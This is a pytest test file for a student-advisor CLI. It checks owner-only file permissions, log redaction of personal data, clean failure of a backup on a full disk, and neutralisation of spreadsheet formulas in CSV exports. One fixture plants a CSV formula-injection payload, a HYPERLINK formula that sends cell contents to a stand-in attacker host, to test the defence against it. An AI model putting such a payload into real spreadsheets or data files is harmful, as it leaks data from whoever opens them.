"""Student data stays private on a shared PC (issue 16, item 7): owner-only files and folders,
no personal data or SQL parameters in the log, inert formulas in exports, a verify that never
writes; and a failed backup leaves nothing behind (item 1)."""

from __future__ import annotations

import csv
import os
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from advisor.model.export_cells import neutral_cell
from tests.test_cli import REPO, assert_one_line_error

SAMPLES = REPO.parent / "shared" / "data" / "samples"
if not SAMPLES.is_dir():
    SAMPLES = REPO / "resources" / "demo"


def advisor(
    *args: str, home: Path, limit_bytes: int | None = None
) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ADVISOR_HOME": str(home), "PYTHONPATH": str(REPO)}
    env.pop("ADVISOR_DB", None)

    def small_disk() -> None:  # a full disk, as the process sees it: writes past a size fail
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return subprocess.run(
        [sys.executable, str(REPO / "main.py"), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=180,
        stdin=subprocess.DEVNULL,
        preexec_fn=small_disk if limit_bytes else None,
    )


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def office(tmp_path: Path) -> tuple[Path, Path]:
    """A department database made through the command line, whose roster has a formula name."""
    home = tmp_path / "home"
    roster = tmp_path / "roster.csv"
    text = (SAMPLES / "roster.csv").read_text(encoding="utf-8-sig").splitlines()
    first = next(csv.reader([text[1]]))
    first[1] = '=HYPERLINK("http://evil.example/?x="&A1,"Ali")'
    out = [text[0], ",".join(f'"{c}"' for c in [c.replace('"', '""') for c in first]), *text[2:]]
    roster.write_text("\n".join(out) + "\n", encoding="utf-8")
    for command in (
        ("init",),
        ("policy", "import", str(SAMPLES / "policy.json")),
        ("students", "import", str(roster)),
    ):
        result = advisor(*command, home=home)
        assert result.returncode == 0, result.stderr
    return home, tmp_path


def test_files_and_folders_are_owner_only(office: tuple[Path, Path]) -> None:
    home, tmp = office
    out = tmp / "out"
    out.mkdir()
    assert advisor("backup", "-o", str(out / "b.db"), home=home).returncode == 0
    assert advisor("audit", "--all", "--csv", str(out / "all.csv"), home=home).returncode == 0
    assert advisor("restore", str(out / "b.db"), home=home).returncode == 0
    data, logs = home / "data", home / "logs"
    assert mode(data) == 0o700 and mode(logs) == 0o700
    private = [data / "sanad.db", logs / "sanad.log", out / "b.db", out / "all.csv"]
    private += list(data.glob("*.before-restore-*"))
    assert len(private) == 5
    for file in private:
        assert mode(file) == 0o600, file


def test_exports_neutralise_formulas(office: tuple[Path, Path]) -> None:
    home, tmp = office
    result = advisor("audit", "--all", "--csv", str(tmp / "all.csv"), home=home)
    assert result.returncode == 0, result.stderr
    with (tmp / "all.csv").open(encoding="utf-8") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert any(n.startswith("'=HYPERLINK(") for n in names)
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


@pytest.mark.parametrize("text", ["=1+1", "+92", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_become_text(text: str) -> None:
    assert neutral_cell(text) == "'" + text
    assert neutral_cell("Ali Raza") == "Ali Raza" and neutral_cell(-2) == -2


def test_the_log_keeps_no_parameters_or_personal_fields(office: tuple[Path, Path]) -> None:
    home, tmp = office
    database = home / "data" / "sanad.db"
    # A database error during a write that names a student: a trigger refuses the update.
    connection = sqlite3.connect(str(database))
    connection.execute(
        "CREATE TRIGGER refuse BEFORE UPDATE ON students BEGIN SELECT RAISE(ABORT, 'no'); END"
    )
    cnic = connection.execute("SELECT cnic FROM students WHERE cnic != '' LIMIT 1").fetchone()[0]
    connection.commit()
    connection.close()
    roster = tmp / "roster.csv"
    text = roster.read_text(encoding="utf-8")
    roster.write_text(text.replace("Ali", "Alia"), encoding="utf-8")
    advisor("students", "import", str(roster), home=home)
    advisor("students", "show", "does-not-exist", home=home)
    log = (home / "logs" / "sanad.log").read_text(encoding="utf-8")
    assert "parameters:" not in log.replace("[SQL parameters hidden", "")
    assert cnic not in log
    assert "HYPERLINK" not in log


def test_a_backup_on_a_full_disk_fails_clearly_and_leaves_nothing(
    office: tuple[Path, Path],
) -> None:
    home, tmp = office
    out = tmp / "usb"
    out.mkdir()
    result = advisor("backup", "-o", str(out / "b.db"), home=home, limit_bytes=64 * 1024)
    assert_one_line_error(result)
    assert "could not take it" in result.stderr
    assert list(out.iterdir()) == []
